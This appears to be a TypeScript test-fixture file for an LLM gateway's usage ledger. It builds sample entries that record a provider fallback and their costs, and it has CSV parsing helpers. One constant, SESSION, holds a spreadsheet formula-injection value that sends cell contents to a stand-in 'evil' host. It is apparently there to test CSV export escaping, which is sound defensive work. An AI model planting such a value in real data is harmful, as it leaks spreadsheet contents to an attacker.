import { uuidV7 } from "../../../../config/uuid.ts";
import type { LedgerEntry, Settlement } from "../../../../store/ledger/ledger-rows.ts";

export const NOW = Date.UTC(2026, 10, 21, 12);
export const DAY = 86_400_000;
export const SESSION = '=HYPERLINK("http://evil/?"&A1)';

export interface Wanted {
  readonly key?: string;
  readonly team?: string;
  readonly org?: string;
  readonly at?: number;
  readonly session?: string;
  readonly running?: boolean;
  readonly saved?: Pick<Settlement, "cache" | "answeredFrom" | "savings">;
}

let made = 0;

/** It fell back once, and cost 1.000000002 dollars at the first provider and 3 nano-dollars at the second. */
export function entry({
  key = "key-a",
  team,
  org,
  at = NOW - 5_400_000 - made * 1_000,
  session,
  running,
  saved = {},
}: Wanted): LedgerEntry {
  made += 1;
  const id = uuidV7(at);
  const admission = {
    id,
    at,
    key,
    ...(team === undefined ? {} : { team }),
    ...(org === undefined ? {} : { org }),
    ...(session === undefined ? {} : { session }),
    dialect: "openai-chat",
    operation: "generate",
    model: "-fast",
    router: "support",
    stream: true,
    reservedNano: 7,
  } as const;
  if (running === true) return { admission };
  const usage = { inputTokens: 100, cacheReadTokens: 20, cacheWrite5mTokens: 3, outputTokens: 50, reasoningTokens: 9 };
  const attempts = [
    {
      provider: "openai",
      model: "gpt-5",
      dialect: "openai-responses",
      lane: "translate",
      startedAfterMs: 2,
      durationMs: 100,
      error: "upstream_overloaded",
      costNano: 1_000_000_002,
      price: "genai-prices:openai/gpt-5",
    },
    {
      provider: "anthropic",
      model: "claude-sonnet-4-5",
      dialect: "anthropic-messages",
      lane: "translate",
      startedAfterMs: 110,
      durationMs: 400,
      firstTokenMs: 90,
      usage,
      costNano: 3,
      serviceTier: "standard",
    },
  ] as const;
  return {
    admission,
    settlement: {
      id,
      state: "settled",
      status: 200,
      finishReason: "stop",
      answeredBy: 1,
      attempts,
      costNano: 1_000_000_005,
      unpriced: false,
      durationMs: 512,
      firstTokenMs: 200,
      overheadMs: 12,
      dropped: ["top_k"],
      ...saved,
    },
  };
}

export function dataOf(body: Readonly<Record<string, unknown>>): readonly Readonly<Record<string, unknown>>[] {
  const data = body["data"];
  if (!Array.isArray(data)) throw new Error(`no list: ${JSON.stringify(body)}`);
  return data;
}

export function totalsOf(body: Readonly<Record<string, unknown>>): Readonly<Record<string, unknown>> {
  return Object.fromEntries(Object.entries(body["totals"] ?? {}));
}

/** Quoted cells and all. */
export function readCsv(text: string): string[][] {
  const lines: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    lines.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? "");
    if (end === "\r\n") lines.push([]);
  }
  return lines.slice(0, -1);
}

export function costOf(text: string): bigint {
  const [head = [], ...lines] = readCsv(text);
  const at = head.indexOf("cost_nano");
  return lines.reduce((sum, cells) => sum + BigInt(cells[at] ?? 0), 0n);
}

export function never(): never {
  throw new Error("there is none");
}
